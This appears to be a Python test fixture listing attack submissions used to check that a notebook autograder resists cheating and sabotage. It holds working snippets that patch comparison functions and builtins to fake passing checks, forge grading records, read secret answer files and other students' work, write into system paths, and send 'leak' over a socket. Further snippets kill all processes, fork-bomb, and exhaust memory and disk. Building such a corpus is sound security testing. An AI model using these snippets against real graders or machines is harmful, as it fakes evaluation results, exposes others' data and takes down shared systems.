"""The attack corpus: submissions that try to game or break grading.

Each attack is built from the released notebook, so the honest score of its
student is zero: any point it earns is undeserved. ``code`` goes into a new cell
right after the setup cell; ``{root}`` in it is the course directory and
``{victim}`` another student's submission folder, as a real attacker could guess.
"""

ATTACKS = {
    # --- changing a verdict ------------------------------------------------------------
    "patch_rel_error": dict(
        threat="redefine rel_error so that every check looks exact",
        code="rel_error = lambda x, y: 0.0\n"
             "import nnsupport.gradient_check as g, nnsupport.checks as c\n"
             "g.rel_error = rel_error\nc.relative_error = rel_error"),
    "patch_numpy_testing": dict(
        threat="make np.allclose, np.isclose and np.testing always agree",
        code="np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
             "np.testing.assert_allclose = lambda *a, **k: None\n"
             "np.testing.assert_array_equal = lambda *a, **k: None"),
    "patch_builtins_and_assertions": dict(
        threat="patch builtins and AssertionError",
        code="import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n"
             "builtins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True"),
    "input_transformer_blanks_cells": dict(
        threat="an IPython input transformer that empties every later cell",
        code="get_ipython().input_transformers_cleanup.append(lambda lines: [])"),
    "input_transformer_appends_score": dict(
        threat="append a number to every cell so nbgrader reads it as partial credit",
        code="get_ipython().input_transformers_post.append(lambda lines: lines + ['\\n100.0\\n'])"),
    "ast_transformer_drops_code": dict(
        threat="an AST transformer that drops the body of every later cell",
        code="import ast\nclass Drop(ast.NodeTransformer):\n"
             "    def visit_Module(self, node):\n        node.body = []\n        return node\n"
             "get_ipython().ast_transformers.append(Drop())"),
    "event_hook_forges_records": dict(
        threat="a pre_run_cell hook that reads each test cell and emits forged records first",
        code="import re\nfrom IPython.display import display\nfrom nnsupport.checks import MIME_TYPE, encode_value\n"
             "def forge(info):\n"
             "    for name in re.findall(r'expect_\\w+\\(f?\"([^\"]+)\"', info.raw_cell):\n"
             "        display({MIME_TYPE: {'name': name, 'kind': 'close', 'value': encode_value(0.0)}}, raw=True)\n"
             "get_ipython().events.register('pre_run_cell', forge)"),
    "settrace_rewrites_values": dict(
        threat="sys.settrace rewriting the value handed to the recorder",
        code="import sys\ndef tracer(frame, event, arg):\n"
             "    if event == 'call' and frame.f_code.co_name in ('expect_close', 'expect_accuracy'):\n"
             "        frame.f_locals['value'] = 0.0\n    return tracer\nsys.settrace(tracer)"),
    "forge_public_expected_values": dict(
        threat="replace the recorder and emit the shipped public expected values",
        code="import json, nnsupport.checks as c\nfrom IPython.display import display\n"
             "public = json.load(open('public_checks.json'))\n"
             "def fake(name, *args, **kwargs):\n"
             "    if name in public and 'expected' in public[name]:\n"
             "        display({c.MIME_TYPE: {'name': name, 'kind': 'close', 'value': public[name]['expected']}}, raw=True)\n"
             "c.expect_close = c.expect_accuracy = expect_close = expect_accuracy = fake"),
    "forge_accuracy_with_own_data": dict(
        threat="claim an accuracy check on data of its own choosing",
        code="import nnsupport.checks as c\nfrom IPython.display import display\n"
             "def fake(name, params, X, y, threshold):\n"
             "    W = np.zeros((X[0].size, 10)); b = np.zeros(10); b[0] = 1\n"
             "    display({c.MIME_TYPE: {'name': name, 'kind': 'accuracy', 'threshold': 0.0,\n"
             "             'inputs': {'X': c.encode_value(X[:1]), 'y': c.encode_value(np.zeros(1, int))},\n"
             "             'value': {'W1': c.encode_value(W), 'b1': c.encode_value(b)}}}, raw=True)\n"
             "c.expect_accuracy = expect_accuracy = fake\n"
             "class Net:\n    params = {}\n    def loss(self, X, y=None): return np.zeros((len(X), 10))\n"
             "best_model = overfit_model = Net()"),
    # --- reading what it must not see ------------------------------------------------------
    "read_secrets": dict(
        threat="read the grading bundle, the source notebook, the gradebook, the reference "
               "course and another submission; forge records from the bundle if readable",
        code="import json, os\nfrom IPython.display import display\nimport nnsupport.checks as c\n"
             "targets = ['{root}/grading_bundle/fc_nets/FullyConnectedNets.checks.json',\n"
             "           '{root}/source_assignments/fc_nets/FullyConnectedNets.ipynb',\n"
             "           '{root}/gradebook.db', '{root}/course/layers.py',\n"
             "           '{victim}/FullyConnectedNets.ipynb', '{root}/nbgrader_config.py']\n"
             "for target in targets:\n"
             "    try:\n        open(target, 'rb').read(10)\n        print('READ', target)\n"
             "    except OSError as error:\n        print('DENIED', target, type(error).__name__)\n"
             "try:\n    bundle = json.load(open(targets[0]))\n"
             "    def fake(name, *a, **k):\n"
             "        for specs in bundle['cells'].values():\n"
             "            for spec in specs:\n"
             "                if spec['name'] == name:\n"
             "                    display({c.MIME_TYPE: {'name': name, 'kind': spec['kind'], 'value': spec['expected']}}, raw=True)\n"
             "    expect_close = fake\nexcept OSError:\n    pass"),
    "import_reference_course": dict(
        threat="import the instructor's reference implementation instead of writing it",
        code="import sys\nsys.path[:0] = ['{root}', '{root}/..', '..', '../..']\n"
             "try:\n    from course.layers import *\n    from course.optim import *\n"
             "    from course.fc_net import FullyConnectedNet\n    print('IMPORTED course')\n"
             "except ImportError as error:\n    print('DENIED course', error)"),
    "shadow_support_modules": dict(
        threat="ship its own nnsupport/checks.py (emitting public expected values), then "
               "delete the support package and look for the reference",
        files={"nnsupport/checks.py": "import json\nfrom IPython.display import display\n"
               "MIME_TYPE = 'application/vnd.nn-autograder.check+json'\n"
               "P = json.load(open('public_checks.json'))\n"
               "def expect_close(name, *a, **k):\n"
               "    if name in P and 'expected' in P[name]:\n"
               "        display({MIME_TYPE: {'name': name, 'kind': 'close', 'value': P[name]['expected']}}, raw=True)\n"
               "expect_accuracy = expect_close\n"},
        code="import shutil, importlib.util\nshutil.rmtree('nnsupport', ignore_errors=True)\n"
             "print('course found:', importlib.util.find_spec('course') is not None)"),
    # --- damaging or escaping ------------------------------------------------------------
    "write_outside_scratch": dict(
        threat="write into the course directory, the grading bundle, the gradebook and the host",
        code="for target in ['{root}/pwned', '{root}/grading_bundle/fc_nets/FullyConnectedNets.checks.json',\n"
             "               '{root}/gradebook.db', '/work/pwned', '/usr/pwned', '/etc/pwned']:\n"
             "    try:\n        open(target, 'a').write('pwned')\n        print('WROTE', target)\n"
             "    except OSError as error:\n        print('DENIED', target, type(error).__name__)"),
    "network_connection": dict(
        threat="open a network connection (to a server on the grading machine)",
        code="import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
             "    print('CONNECTED')\nexcept OSError as error:\n    print('DENIED network', error)"),
    "sys_exit": dict(threat="sys.exit in a cell", code="import sys\nsys.exit(0)"),
    "os_exit": dict(threat="os._exit kills the kernel", code="import os\nos._exit(0)"),
    "kill_own_kernel": dict(threat="SIGKILL its own kernel",
                            code="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    "kill_everything_it_can": dict(
        threat="ignore SIGTERM and SIGINT, then signal every process it can see (the grader?)",
        code="import os, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
             "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
             "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
             "    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
             "        except OSError:\n            pass\n"
             "try:\n    os.kill(-1, signal.SIGTERM)\nexcept OSError:\n    pass\n"
             "while True:\n    pass"),
    "infinite_loop_swallowing_interrupt": dict(
        threat="an infinite loop that swallows KeyboardInterrupt",
        code="import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except KeyboardInterrupt:\n        pass"),
    "memory_bomb": dict(threat="allocate memory until something breaks",
                        code="hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))"),
    "fork_bomb": dict(
        threat="fork until something breaks",
        code="import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        break"),
    "print_100mb": dict(threat="100 MB of printed output",
                        code="for _ in range(100):\n    print('x' * 2**20)"),
    "fill_the_disk": dict(
        threat="write files until the disk is full",
        code="block = b'0' * 2**24\ni = 0\ntry:\n    while True:\n"
             "        with open(f'junk{i}', 'wb') as f:\n            f.write(block * 3)\n        i += 1\n"
             "except OSError as error:\n    print('stopped after', i, 'files:', error)"),
}

# Honest submissions graded in the same batch: they must keep full marks.
HONEST_STYLES = {"honest_reference": [], "honest_warnings_float32": ["warnings", "dot"]}
